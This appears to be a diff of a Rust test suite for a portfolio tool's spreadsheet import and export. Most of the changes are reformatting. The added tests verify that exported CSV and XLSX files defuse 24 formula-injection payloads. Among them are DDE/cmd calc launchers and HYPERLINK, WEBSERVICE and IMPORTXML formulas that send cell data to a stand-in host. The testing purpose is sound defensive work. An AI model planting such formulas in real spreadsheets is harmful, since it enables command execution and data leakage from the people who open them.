@@ -111,7 +111,9 @@ fn every_program_is_understood(#[case] file: &str, #[values(Lang::En, Lang::Fr)]
         ("Étoile Rail: new", 2),
     ];
     let found = told.changes.iter();
-    let found: Vec<_> = found.map(|(it, lines)| (it.as_str(), lines.len())).collect();
+    let found: Vec<_> = found
+        .map(|(it, lines)| (it.as_str(), lines.len()))
+        .collect();
     assert_eq!(found, expected);
     check_figures(&proposal);
     assert!(proposal.notes.iter().any(|it| matches!(it, Note::Sums(_))));
@@ -126,15 +128,27 @@ fn check_figures(proposal: &Proposal) {
     assert_eq!(helios.name, "Hélios Retail");
     assert_eq!(helios.revenue[&2025], 4_210_000.5);
     assert_eq!(helios.margin[&2025], 12.5);
-    assert_eq!((helios.share_of_wallet, helios.effort), (Some(35.0), Some(6.5)));
+    assert_eq!(
+        (helios.share_of_wallet, helios.effort),
+        (Some(35.0), Some(6.5))
+    );
     assert_eq!(helios.target.due, Some(date(2026, 12, 31)));
     let nova = after.account(&"nova".into()).unwrap();
-    assert_eq!(nova.name, "Nova Énergie", "found by its name, and not renamed");
-    assert_eq!((nova.revenue[&2025], nova.margin[&2025]), (1_234_567.89, -3.25));
+    assert_eq!(
+        nova.name, "Nova Énergie",
+        "found by its name, and not renamed"
+    );
+    assert_eq!(
+        (nova.revenue[&2025], nova.margin[&2025]),
+        (1_234_567.89, -3.25)
+    );
     assert_eq!((nova.share_of_wallet, nova.budget_month), (None, Some(6)));
     assert_eq!(nova.target.due, Some(date(2027, 3, 15)));
     let new = after.account(&"etoile-rail".into()).unwrap();
-    assert_eq!((new.name.as_str(), new.revenue[&2025]), ("Étoile Rail", 900_000.0));
+    assert_eq!(
+        (new.name.as_str(), new.revenue[&2025]),
+        ("Étoile Rail", 900_000.0)
+    );
     history.undo(&mut after);
     assert_eq!(after, portfolio());
 }
@@ -170,26 +184,49 @@ fn a_score_keeps_what_speaks_for_it_and_is_given_today() {
     }
     let account = after.account(&"helios".into()).unwrap();
     let score = &account.scores.values().next().unwrap();
-    assert_eq!((score.value, score.note.as_deref()), (5.0, Some("Seen in March")));
+    assert_eq!(
+        (score.value, score.note.as_deref()),
+        (5.0, Some("Seen in March"))
+    );
     assert_eq!(score.date, Some(date(2026, 11, 23)));
 }
 
 #[rstest]
-#[case::twice("Nom\tEffort\nZenith\t1\nHélios Retail\t1\nZENITH\t2", 4, "la même chose qu’à la ligne 2")]
-#[case::new_twice("Nom\tEffort\nKestrel\t1\nKESTREL\t2", 3, "la même chose qu’à la ligne 2")]
+#[case::twice(
+    "Nom\tEffort\nZenith\t1\nHélios Retail\t1\nZENITH\t2",
+    4,
+    "la même chose qu’à la ligne 2"
+)]
+#[case::new_twice(
+    "Nom\tEffort\nKestrel\t1\nKESTREL\t2",
+    3,
+    "la même chose qu’à la ligne 2"
+)]
 #[case::nobody("Nom\tEffort\n\t1", 2, "ne nomme aucun compte")]
 #[case::id_of_nobody("Id\tEffort\nkestrel\t1", 2, "il n’y a pas de compte kestrel")]
 #[case::one_column_sorted("Id\tNom\nhelios\tZenith", 2, "seule colonne a-t-elle été triée")]
-#[case::word_for_a_figure("Nom\tEffort\nZenith\tbeaucoup", 2, "colonne B (Effort)\u{202f}: «\u{202f}beaucoup\u{202f}» n’est pas compris")]
+#[case::word_for_a_figure(
+    "Nom\tEffort\nZenith\tbeaucoup",
+    2,
+    "colonne B (Effort)\u{202f}: «\u{202f}beaucoup\u{202f}» n’est pas compris"
+)]
 #[case::out_of_range("Nom\tEffort\nZenith\t45", 2, "31")]
 #[case::off_the_scale("Nom\tInnovation\nZenith\t9", 2, "9")]
 #[case::share_for_an_amount("Nom\tCA 2025\nZenith\t12 %", 2, "est une part")]
 #[case::unknown_word("Nom\tStatut\nZenith\tvip", 2, "clé, incubateur, candidat, ancien")]
 #[case::no_day("Nom\tCible pour le\nZenith\tbientôt", 2, "un jour est attendu")]
 #[case::error_of_the_sheet("Nom\tEffort\nZenith\t#N/A", 2, "pas pu le calculer")]
-#[case::both_marks("Nom\tEffort\nZenith\t1,5\nHélios Retail\t1.5\nNova Énergie\t1,234", 4, "virgule")]
+#[case::both_marks(
+    "Nom\tEffort\nZenith\t1,5\nHélios Retail\t1.5\nNova Énergie\t1,234",
+    4,
+    "virgule"
+)]
 #[case::long_code("Nom\tCode\nZenith\tZENITH", 2, "deux")]
-fn what_is_wrong_is_told_with_its_place(#[case] text: &str, #[case] row: usize, #[case] says: &str) {
+fn what_is_wrong_is_told_with_its_place(
+    #[case] text: &str,
+    #[case] row: usize,
+    #[case] says: &str,
+) {
     let proposal = pasted(text);
     let rows: Vec<_> = proposal.problems.iter().map(|it| it.row).collect();
     assert_eq!(rows, [Some(row)], "{:#?}", proposal.problems);
@@ -198,14 +235,23 @@ fn what_is_wrong_is_told_with_its_place(#[case] text: &str, #[case] row: usize, 
     assert!(told.contains(says), "{told}");
     assert!(told.starts_with(&format!("ligne {row}")), "{told}");
     let of_row = |it: &keyfolio::exchange::import::Change| it.row == row;
-    assert!(!proposal.changes.iter().any(of_row), "nothing of a row that is wrong");
+    assert!(
+        !proposal.changes.iter().any(of_row),
+        "nothing of a row that is wrong"
+    );
 }
 
 #[test]
 fn a_row_with_a_problem_brings_nothing_of_it() {
     let proposal = pasted("Nom\tEffort\tStatut\nKestrel\t4\tvip\nZenith\t2\tclé");
     let told = changes(&proposal);
-    assert_eq!(told, ["Zenith|Effort, jours par mois||2", "Zenith|Statut|candidat|clé"]);
+    assert_eq!(
+        told,
+        [
+            "Zenith|Effort, jours par mois||2",
+            "Zenith|Statut|candidat|clé"
+        ]
+    );
     assert!(!proposal.is_clean() && !proposal.is_hopeless());
 }
 
@@ -225,7 +271,10 @@ fn a_name_that_could_be_two_is_a_problem_and_the_name_as_written_is_not() {
         },
     );
     let ids = vec!["zen".into(), "zen-2".into()];
-    assert_eq!(troubles(&proposal), [(Some(2), &Trouble::SeveralAccounts(ids))]);
+    assert_eq!(
+        troubles(&proposal),
+        [(Some(2), &Trouble::SeveralAccounts(ids))]
+    );
     assert_eq!(proposal.changes[0].account, "ZENITH");
 }
 
@@ -265,7 +314,13 @@ fn what_a_heading_stands_for_is_remembered() {
 fn readings_come_in_bulk(#[case] text: &str, #[case] expected: &[&str]) {
     let proposal = pasted(text);
     assert_eq!(proposal.problems, []);
-    assert_eq!((proposal.what, &changes(&proposal)[..]), (What::Readings, &expected.iter().map(ToString::to_string).collect::<Vec<_>>()[..]));
+    assert_eq!(
+        (proposal.what, &changes(&proposal)[..]),
+        (
+            What::Readings,
+            &expected.iter().map(ToString::to_string).collect::<Vec<_>>()[..]
+        )
+    );
     assert!(proposal.edits.len() <= 1, "all readings are one edit");
 }
 
@@ -284,9 +339,198 @@ fn months_that_a_spreadsheet_made_days_of_are_months_again() {
     use keyfolio::sheets::Cell;
     let day = |month| Cell::Date(date(2026, month, 1));
     let mut table = Table::default();
-    table.push(vec![Cell::text("Account"), Cell::text("Indicator"), day(9), day(11)]);
+    table.push(vec![
+        Cell::text("Account"),
+        Cell::text("Indicator"),
+        day(9),
+        day(11),
+    ]);
     let figures = [Cell::Number(93.0), Cell::Number(96.0)];
-    table.push([vec![Cell::text("helios"), Cell::text("otif")], figures.to_vec()].concat());
+    table.push(
+        [
+            vec![Cell::text("helios"), Cell::text("otif")],
+            figures.to_vec(),
+        ]
+        .concat(),
+    );
     let proposal = proposal(&[table], Lang::En);
-    assert_eq!(changes(&proposal), ["Hélios Retail|On time in full, 2026-11-30||96"]);
+    assert_eq!(
+        changes(&proposal),
+        ["Hélios Retail|On time in full, 2026-11-30||96"]
+    );
+}
+
+/// What has been tried on spreadsheets.
+const PAYLOADS: [&str; 24] = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"Click\")",
+    "=WEBSERVICE(\"http://x.example\")",
+    "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u{a0}=1+1",
+    "\"=1+1",
+    "\"\"=1+1\"",
+    "'=1+1",
+    "＝1+1",
+    "＋1+1",
+    "x;=1+1;y",
+    "x,=1+1,y",
+    "x\";=1+1;\"y",
+    "x\r\n=1+1",
+    "x|@SUM(1)",
+];
+
+fn armed_portfolio(payload: &str) -> Portfolio {
+    let text = format!("{payload:?}").replace("\\u{a0}", "\u{a0}");
+    let yaml = format!(
+        "\
+format: 1
+portfolio: {{name: Aurora}}
+criteria: {{strength: [{{id: c, name: {text}, weight: 1, kind: qualitative}}]}}
+accounts:
+  - id: one
+    name: {text}
+    sector: {text}
+    manager: {text}
+    revenue: {{2025: -3}}
+    scores: {{c: 4}}
+    scorecard: [{{id: i, name: {text}, unit: {text}, readings: {{2026-10-31: -4}}}}]
+    requirements: [{{id: r, title: {text}, object: {text}}}]
+"
+    );
+    read(&yaml).unwrap()
+}
+
+/// Whether a spreadsheet would take a cell for a formula: said here once more, and not as the program says it.
+fn would_run(cell: &str) -> bool {
+    let cell = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}');
+    let is_number = cell.replace(',', ".").parse::<f64>().is_ok();
+    cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number
+}
+
+#[rstest]
+#[case::accounts(keyfolio::exchange::export::accounts)]
+#[case::scorecards(keyfolio::exchange::export::scorecards)]
+#[case::requirements(keyfolio::exchange::export::requirements)]
+fn nothing_that_goes_out_runs(
+    #[case] what: fn(&keyfolio::exchange::export::Basis<'_>) -> Table,
+    #[values(Lang::En, Lang::Fr)] lang: Lang,
+) {
+    for payload in PAYLOADS {
+        let portfolio = armed_portfolio(payload);
+        let table = out(&portfolio, lang, what);
+        let words = Words::new(lang);
+        let dialect = keyfolio::exchange::dialect(&words);
+        let written = sheets::csv::write(&table, dialect).unwrap();
+        let mut cells = 0;
+        for separator in [dialect.separator, b';', b',', b'\t', b'|'] {
+            let mut reader = csv::ReaderBuilder::new()
+                .delimiter(separator)
+                .has_headers(false)
+                .flexible(true)
+                .from_reader(&written[..]);
+            for cell in reader
+                .records()
+                .flat_map(|it| it.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            {
+                cells += 1;
+                assert!(
+                    !would_run(&cell),
+                    "{payload:?} split at {separator}: {cell:?}"
+                );
+                let lines = cell.split(['\n', '\r']);
+                assert!(!lines.into_iter().any(would_run), "{payload:?}: {cell:?}");
+            }
+        }
+        assert!(cells > 20);
+    }
+}
+
+fn out(
+    portfolio: &Portfolio,
+    lang: Lang,
+    what: fn(&keyfolio::exchange::export::Basis<'_>) -> Table,
+) -> Table {
+    let today = date(2026, 11, 23);
+    what(&keyfolio::exchange::export::Basis {
+        portfolio,
+        figures: &keyfolio::domain::figures::Figures::of(portfolio, today),
+        words: &Words::new(lang),
+        today,
+    })
+}
+
+/// What is in front of such a text on its way out is gone once it is back, and figures were never touched.
+#[rstest]
+fn what_was_disarmed_comes_back(
+    #[values(Lang::En, Lang::Fr)] lang: Lang,
+    #[values(false, true)] workbook: bool,
+) {
+    for payload in PAYLOADS {
+        let portfolio = armed_portfolio(payload);
+        let table = out(&portfolio, lang, keyfolio::exchange::export::accounts);
+        let words = Words::new(lang);
+        let bytes = if workbook {
+            sheets::xlsx::write(&[table])
+        } else {
+            sheets::csv::write(&table, keyfolio::exchange::dialect(&words))
+        };
+        let tables = sheets::read(&bytes.unwrap()).unwrap();
+        let proposal = propose_as(
+            What::Accounts,
+            &tables[0],
+            Against {
+                portfolio: &portfolio,
+                tongues: &tongues(&words),
+                today: date(2026, 11, 23),
+                remembered: &Remembered::default(),
+            },
+        );
+        assert_eq!(proposal.problems, [], "{payload:?}");
+        assert_eq!(proposal.changes, [], "{payload:?}");
+        let revenue = proposal
+            .mapping
+            .iter()
+            .find(|it| it.heading.contains("2025"));
+        let column = revenue.unwrap().column;
+        let figure = tables[0].rows[1].cell(column);
+        let expected = [sheets::Cell::text("-3"), sheets::Cell::Number(-3.0)];
+        assert!(expected.contains(figure), "{figure:?}");
+    }
+}
+
+/// A workbook read by itself, not by way of our own reader.
+#[test]
+fn a_workbook_holds_figures_days_and_words() {
+    use calamine::{Data, DataType as _, Reader as _, Xlsx};
+    let example = read(include_str!("../portfolio.example.yaml")).unwrap();
+    let table = out(&example, Lang::Fr, keyfolio::exchange::export::accounts);
+    let bytes = sheets::xlsx::write(&[table]).unwrap();
+    let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
+    let range = workbook.worksheet_range("Comptes").unwrap();
+    let heading: Vec<String> = range
+        .rows()
+        .next()
+        .unwrap()
+        .iter()
+        .map(ToString::to_string)
+        .collect();
+    let at = |name: &str| {
+        let column = heading.iter().position(|it| it == name).unwrap();
+        range.get((1, column)).unwrap()
+    };
+    assert_eq!(at("Nom"), &Data::String("Helios Retail".into()));
+    assert_eq!(at("CA 2025"), &Data::Float(4_210_000.0));
+    assert_eq!(at("Marge 2025, %"), &Data::Float(17.9));
+    let due = at("Cible pour le").get_datetime().unwrap();
+    assert_eq!(due.to_ymd_hms_milli(), (2027, 12, 31, 0, 0, 0, 0));
+    assert_eq!((range.height(), range.width()), (21, heading.len()));
 }
